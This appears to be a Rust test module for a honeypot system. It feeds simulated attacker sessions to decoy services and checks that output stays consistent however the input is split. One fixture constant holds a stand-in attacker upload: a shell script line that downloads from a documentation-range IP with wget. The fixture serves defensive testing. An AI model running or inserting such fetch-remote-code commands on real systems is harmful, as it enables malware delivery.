//! One visit: a session fed by hand, with what the driver would add, and what must hold for all
//! protocols.

use std::{
    net::SocketAddr,
    sync::{Arc, OnceLock},
    time::Duration,
};

use decoys::{
    DataAction, DataEvent, Flow, Output, Session, Started,
    session::{MAX_OUTPUT_BYTES, MAX_OUTPUT_FACTS},
};
use model::{
    Ambient, Archetype, DeckyId, InstallationSecret, Persona, Service, SessionFact, Timestamp,
};
use rand::{RngExt, SeedableRng, rngs::StdRng};

use super::safe::assert_fact;
use crate::{Trace, trace::hash_of};

/// When every visit begins: 2025-03-04T10:00:00Z.
pub(super) const START: Timestamp = Timestamp::from_micros(1_741_082_400_000_000);
/// Deadlines that come later are the patience of a server with somebody who is silent.
const SOON: Duration = Duration::from_secs(30);
/// Most deadlines of one visit that are waited for.
const MAX_DEADLINES: usize = 64;
/// Most rounds of answers on the data connection.
const MAX_DATA_ROUNDS: usize = 64;
/// Inputs up to this length are also fed byte by byte.
const MAX_SINGLE_BYTES: usize = 2048;
/// What arrives on a data connection.
const UPLOAD: &[u8] = b"#!/bin/sh\nwget http://198.51.100.9/x\n";

/// Everything that came out.
#[derive(Default, PartialEq, Eq, Debug)]
struct Seen {
    wire: Vec<u8>,
    facts: Vec<SessionFact>,
    data: Vec<DataAction>,
    closed: bool,
}

/// A session under way.
pub(super) struct Visit {
    session: Box<dyn Session>,
    now: Timestamp,
    out: Output,
    seen: Seen,
    pending: Vec<DataAction>,
    listens: usize,
    overflowed: bool,
}

/// The personas that visits meet: two of each kind of machine, so that every product is there.
pub(super) fn persona(number: usize) -> Arc<Persona> {
    static PERSONAS: OnceLock<Vec<Arc<Persona>>> = OnceLock::new();
    let all = PERSONAS.get_or_init(|| {
        let kinds = Archetype::ALL.iter().chain(Archetype::ALL).enumerate();
        kinds.map(|(salt, archetype)| Arc::new(derive(salt as u64, *archetype))).collect()
    });
    all[number % all.len()].clone()
}

fn derive(salt: u64, archetype: Archetype) -> Persona {
    let decky: DeckyId = Ambient::seeded(salt, START).id();
    let name = "web-01".parse().expect("a name");
    Persona::derive(&InstallationSecret::new([7; 32]), decky, &name, archetype)
}

pub(super) fn peer() -> SocketAddr {
    SocketAddr::from(([198, 51, 100, 7], 40_123))
}

impl Visit {
    pub(super) fn begin(service: Service, persona: Arc<Persona>) -> Self {
        let local = SocketAddr::from(([10, 66, 1, 10], service.port()));
        let Started::Connection(session) = decoys::start(service, persona, [3; 32], local, peer())
        else {
            panic!("{service} has no connections")
        };
        let mut visit = Self {
            session,
            now: START,
            out: Output::new(),
            seen: Seen::default(),
            pending: Vec::new(),
            listens: 0,
            overflowed: false,
        };
        let flow = visit.session.open(visit.now, &mut visit.out);
        visit.absorb(flow);
        visit
    }

    /// What the server said before anything else.
    pub(super) fn greeting(&self) -> Vec<u8> {
        self.seen.wire.clone()
    }

    /// The visitor sends `bytes`; gives what is answered at once.
    pub(super) fn send(&mut self, bytes: &[u8]) -> Vec<u8> {
        if self.seen.closed {
            return Vec::new();
        }
        let flow = self.session.receive(self.now, bytes, &mut self.out);
        self.absorb(flow)
    }

    /// The visitor waits for what comes by itself, on both connections; gives what is said.
    pub(super) fn wait(&mut self) -> Vec<u8> {
        let mut said = self.answer_data();
        for _ in 0..MAX_DEADLINES {
            let Some(at) = self.session.deadline().filter(|at| at.since(self.now) < SOON) else {
                return said;
            };
            if self.seen.closed {
                return said;
            }
            self.now = self.now.max(at);
            let flow = self.session.expire(self.now, &mut self.out);
            said.extend(self.absorb(flow));
            let next = self.session.deadline();
            let goes_on = self.seen.closed || next.is_none_or(|next| next > self.now);
            assert!(goes_on, "a deadline that does not pass makes the driver spin");
            said.extend(self.answer_data());
        }
        said
    }

    pub(super) fn is_closed(&self) -> bool {
        self.seen.closed
    }

    /// Does what the driver does about the data connection, until nothing more is wanted.
    fn answer_data(&mut self) -> Vec<u8> {
        let mut said = Vec::new();
        for _ in 0..MAX_DATA_ROUNDS {
            let actions = std::mem::take(&mut self.pending);
            if actions.is_empty() {
                break;
            }
            for event in actions.iter().flat_map(|action| self.events(action)).collect::<Vec<_>>() {
                if !self.seen.closed {
                    let flow = self.session.data(self.now, event, &mut self.out);
                    said.extend(self.absorb(flow));
                }
            }
        }
        said
    }

    /// What the driver answers: every other time the visitor sends something and is done.
    fn events(&mut self, action: &DataAction) -> Vec<DataEvent> {
        match action {
            DataAction::Send(_) => vec![],
            DataAction::Close => vec![DataEvent::Closed],
            DataAction::Listen => {
                self.listens += 1;
                let addr = [10, 66, 1, 10].into();
                let mut events =
                    vec![DataEvent::Listening { addr, port: 40_000 }, DataEvent::Connected];
                if self.listens.is_multiple_of(2) {
                    events.extend([DataEvent::Received(UPLOAD.to_vec()), DataEvent::Closed]);
                }
                events
            }
        }
    }

    /// The visitor goes.
    fn end(mut self, trace: &mut Trace) -> Seen {
        self.wait();
        if !self.seen.closed {
            let flow = self.session.finished(self.now, &mut self.out);
            self.absorb(flow);
        }
        for line in self.seen.wire.split(|b| *b == b'\n').take(512) {
            trace.note_text(line);
        }
        trace.note((self.seen.closed, self.overflowed, self.seen.data.len()));
        self.seen
    }

    fn absorb(&mut self, flow: Flow) -> Vec<u8> {
        let (wire, facts, data) =
            (self.out.take_wire(), self.out.take_facts(), self.out.take_data());
        assert!(wire.len() <= MAX_OUTPUT_BYTES && facts.len() <= MAX_OUTPUT_FACTS);
        self.overflowed |= self.out.take_overflow().is_some();
        self.seen.wire.extend_from_slice(&wire);
        self.seen.facts.extend(facts);
        self.seen.data.extend_from_slice(&data);
        self.pending.extend(data);
        self.seen.closed |= flow != Flow::Continue;
        wire
    }
}

/// Feeds `input` whole, in pieces, and with pauses in which the driver acts. Whole and in pieces
/// must come out the same.
pub(super) fn check(service: Service, persona: &Arc<Persona>, input: &[u8], trace: &mut Trace) {
    let whole = fed(service, persona, [input], trace);
    let Some(whole) = whole else { return };
    for fact in &whole.facts {
        trace.note(assert_fact(fact));
    }
    let mut quiet = Trace::default();
    if input.len() <= MAX_SINGLE_BYTES {
        same(&whole, fed(service, persona, input.chunks(1), &mut quiet), "byte by byte");
    }
    for most in [16, 1024] {
        let pieces = pieces(input, most);
        same(&whole, fed(service, persona, pieces, &mut quiet), "in pieces");
    }
    let mut visit = Visit::begin(service, persona.clone());
    for line in input.split_inclusive(|b| *b == b'\n').take(512) {
        visit.send(line);
        visit.wait();
    }
    let slowly = visit.end(trace);
    for fact in &slowly.facts {
        trace.note(assert_fact(fact));
    }
}

/// What comes out of these pieces; `None` where a bound of the output was hit, for then it
/// depends on the pieces.
fn fed<'a>(
    service: Service,
    persona: &Arc<Persona>,
    pieces: impl IntoIterator<Item = &'a [u8]>,
    trace: &mut Trace,
) -> Option<Seen> {
    let mut visit = Visit::begin(service, persona.clone());
    for piece in pieces {
        visit.send(piece);
    }
    visit.wait();
    let overflowed = visit.overflowed;
    let seen = visit.end(trace);
    (!overflowed).then_some(seen)
}

/// Cuts that follow from the input, so that it alone repeats a failure.
fn pieces(input: &[u8], most: usize) -> Vec<&[u8]> {
    let mut dice = StdRng::seed_from_u64(hash_of((input, most)));
    let mut rest = input;
    let mut pieces = Vec::new();
    while !rest.is_empty() {
        let (piece, more) = rest.split_at(dice.random_range(1..=most.min(rest.len())));
        pieces.push(piece);
        rest = more;
    }
    pieces
}

#[track_caller]
fn same(whole: &Seen, other: Option<Seen>, how: &str) {
    let Some(other) = other else { return };
    assert_eq!(other.facts, whole.facts, "facts {how}");
    assert_eq!(other.data, whole.data, "the data connection {how}");
    let differ = other.wire.iter().zip(&whole.wire).position(|(a, b)| a != b);
    let at = differ.unwrap_or(other.wire.len().min(whole.wire.len()));
    let around = |wire: &[u8]| {
        let part = &wire[at.saturating_sub(40)..(at + 40).min(wire.len())];
        part.escape_ascii().to_string()
    };
    assert!(
        other.wire == whole.wire,
        "the answer {how} differs at {at}: whole {:?}, cut {:?}",
        around(&whole.wire),
        around(&other.wire)
    );
    assert_eq!(other.closed, whole.closed, "the end {how}");
}
